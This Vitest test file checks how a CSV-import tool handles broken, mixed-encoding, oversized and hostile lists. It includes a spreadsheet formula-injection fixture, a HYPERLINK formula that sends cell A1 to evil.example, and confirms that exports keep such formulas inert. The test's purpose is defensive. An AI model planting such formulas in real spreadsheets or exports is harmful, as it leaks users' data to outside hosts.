/** Lists as people really keep them: broken, mixed, huge or meant to harm. Clear words, and nothing dropped silently. */
import { readFileSync, writeFileSync } from 'node:fs'
import { beforeAll, expect, test } from 'vitest'
import type { ListPreviewView, PersonSummary, RegisterSummary } from '../../packages/workbench/src/publish/contract.ts'
import { openProgram } from './program.ts'

const program = openProgram()
const { path, run, json } = program
const WHO = ['--by', 'R. Haddad', '--reason', 'a list']

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
const LISTS: Readonly<Record<string, string | Buffer>> = {
  'formulas.csv': `no,name,age,remark\n1,${JSON.stringify(FORMULA).replaceAll('\\"', '""')},34,@SUM(A1)\n2,+Nadir Tasqari,-40,x\n`,
  'no-header.csv': 'Mahmud Durraqi,34,Namrosh\nYusra Velsami,27,Namrosh\n',
  'mixed.csv': Buffer.concat([
    Buffer.from('name,place\nمحمود درّاقي,نمروش\n', 'utf8'),
    Buffer.from([0xe3, 0xcd, 0xe3, 0xe6, 0xcf, 0x2c, 0xe4, 0xe3, 0xd1, 0xe6, 0xd4, 0x0a]),
  ]),
  'wide.csv': `name,${Array.from({ length: 199 }, (_, at) => `question ${at}`).join(',')}\nYusra Velsami${',x'.repeat(199)}\n`,
  'long.csv': `name,remark\nYusra Velsami,"${'word '.repeat(2_100_000)}"\nHabib Velsami,short\n`,
  'extra.csv': 'name,age\nYusra Velsami,27,Namrosh,more\n',
  'open-quote.csv': 'name,age\n"Yusra Velsami,27\n',
  'picture.csv': Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0, 0xff, 0xfe, 0, 1]),
}

beforeAll(async () => {
  for (const [name, content] of Object.entries(LISTS)) writeFileSync(path(name), content)
  await run('new', 'valley')
  await run('add', 'valley', ...Object.keys(LISTS))
}, 120_000)

const columns = (name: string, ...words: string[]) =>
  json<ListPreviewView>('register', 'valley', 'columns', name, ...words)
const add = (name: string, ...words: string[]) => run('register', 'valley', 'add', name, ...words, ...WHO)

test('two hundred columns are shown and kept', async () => {
  const { columns: shown } = await columns('wide.csv')
  expect(shown).toHaveLength(200)
  expect(shown.filter(({ field }) => field === 'stated')).toHaveLength(199)
})

test('a list without a header is refused with what to say, and taken once it is said', async () => {
  expect(await add('no-header.csv')).toMatchObject({ code: 2, err: expect.stringContaining('no header') })
  const taken = await add(
    'no-header.csv',
    '--no-header',
    '--columns',
    'name=#1',
    '--columns',
    'age=#2',
    '--columns',
    'place=#3',
  )
  expect(taken).toMatchObject({ code: 0, out: expect.stringContaining('2 entries') })
  const { persons } = await json<{ persons: PersonSummary[] }>('register', 'valley', 'persons')
  expect(persons.map(({ name, age }) => [name, age])).toEqual([
    ['Mahmud Durraqi', 34],
    ['Yusra Velsami', 27],
  ])
})

test('two encodings in one file lose no row', async () => {
  const { rows, columns: shown, notes } = await columns('mixed.csv')
  expect(rows).toBe(2)
  expect(shown[0]?.examples).toEqual(['محمود درّاقي', 'محمود'])
  expect(notes.join()).toContain('1 lines are in another encoding')
})

test('a cell of ten megabytes is read by its beginning, and said so; the original keeps it', async () => {
  const { notes, rows } = await columns('long.csv')
  expect(rows).toBe(2)
  expect(notes.join()).toMatch(/1 cells are very long; only the beginning of each is read/)
  expect(await add('long.csv')).toMatchObject({ code: 0, out: expect.stringContaining('very long') })
})

test('cells beyond the header are counted in words', async () => {
  expect((await columns('extra.csv')).notes.join()).toContain('2 cells stand beyond the last column')
})

test('what is no list, is not there, or is broken is refused in a sentence', async () => {
  expect(await add('picture.csv')).toMatchObject({ code: 2, err: expect.stringContaining('picture.csv') })
  expect(await add('absent.csv')).toMatchObject({ code: 2, err: expect.stringContaining('no item of this name') })
  expect(await add('open-quote.csv')).toMatchObject({ code: 2, err: expect.stringContaining('never closed') })
  expect((await run('register', 'valley', 'show', 'ffffffff')).code).toBe(2)
  expect((await run('register', 'valley', 'mark', 'same', 'ffffffff', 'eeeeeeee', ...WHO)).code).toBe(2)
})

test('formulas stay text: in the register as written, in tables that no spreadsheet runs', async () => {
  expect(await add('formulas.csv')).toMatchObject({ code: 0 })
  const { persons } = await json<{ persons: PersonSummary[] }>('register', 'valley', 'persons', '--q', 'click')
  expect(persons[0]?.name).toBe(FORMULA)
  expect(await run('export', 'valley', '--to', 'out')).toMatchObject({ code: 0 })
  const table = readFileSync(path('out/register.csv'), 'utf8')
  expect(table).toContain('HYPERLINK')
  expect(table).not.toMatch(/(^|,)"?[=+@-](?!\d)/m)
})

test('nothing was dropped: every row that was taken has its entry', async () => {
  const { lists, counts } = await json<RegisterSummary>('register', 'valley')
  expect(counts.entries).toBe(lists.reduce((sum, { rows }) => sum + rows, 0))
})
